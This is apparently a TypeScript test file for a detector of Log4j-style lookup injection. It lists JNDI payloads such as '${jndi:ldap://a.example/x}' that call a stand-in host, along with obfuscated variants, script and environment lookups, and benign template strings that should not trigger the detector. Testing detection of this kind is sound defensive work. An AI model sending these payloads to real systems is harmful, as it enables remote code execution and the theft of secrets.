// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups are written like that
import { expect, test } from 'bun:test'
import { viewsOf } from '../../../src/hooks/anomaly/decode/index.ts'
import { lookupInjection } from '../../../src/hooks/anomaly/detectors/lookup-injection.ts'

const score = (text: string): number =>
  Math.max(...viewsOf(text, 'body').map((view) => lookupInjection(view)))

const attacks: readonly [what: string, text: string][] = [
  ['a lookup of a directory', '${jndi:ldap://a.example/x}'],
  ['one that never ends', 'x ${jndi:dns://a.example'],
  ['one in any case', '${jNdI:rmi://a.example}'],
  ['one of defaults', '${${::-j}${::-n}di:ldap://a.example}'],
  ['one of letters made small', '${${lower:J}ndi:ldap://a.example}'],
  ['one of a letter without its dot', '${jnd${upper:ı}:ldap://a.example}'],
  ['one of what is not in the environment', '${j${env:NONE:-n}di${env:NONE:-:}ldap://a.example}'],
  ['one of a date', "${${date:'j'}ndi:ldap://a.example}"],
  ['one that is nested three times', '${${lower:${upper:${::-jndi}}}:ldap://a.example}'],
  [
    'one whose colon is missing',
    '${${::-j}${::-n}${::-d}${::-i}${::-r}${::-m}${::-i}://a.example}',
  ],
  ['a percent-encoded one', '%24%7Bjndi:ldap://a.example%7D'],
  ['one in numbered escapes', '$\\u007bjndi:ldap://a.example}'],
  ['one that runs a script', '${script:javascript:1}'],
  ['one of the machine', '${sys:user.name}'],
  ['the whole environment', '${env:HOME}'],
]

for (const [what, text] of attacks)
  test(`${what} is found`, () => {
    expect(score(text)).toBeGreaterThanOrEqual(0.5)
  })

const honest = [
  'console.log(`Hello ${name}`)',
  '`${a ? `${b}` : c}`',
  'cp ${FOO:-${BAR:-x}} y',
  'stage: ${self:custom.${opt:stage}.name}',
  'path: ${env:HOME}/bin and so on',
  '${user.name:-anonymous}',
  'look-ups such as `${jndi:…}`',
  'jndi:ldap was the hole',
]

for (const text of honest)
  test(`${text} is honest`, () => {
    expect(score(text)).toBeLessThan(0.5)
  })

test('no text takes long, however it repeats', () => {
  for (const unit of ['${', '${a', '${a}', '}', '${::-', '${lower:'])
    expect(score(unit.repeat(Math.ceil(100_000 / unit.length)))).toBeLessThanOrEqual(1)
})
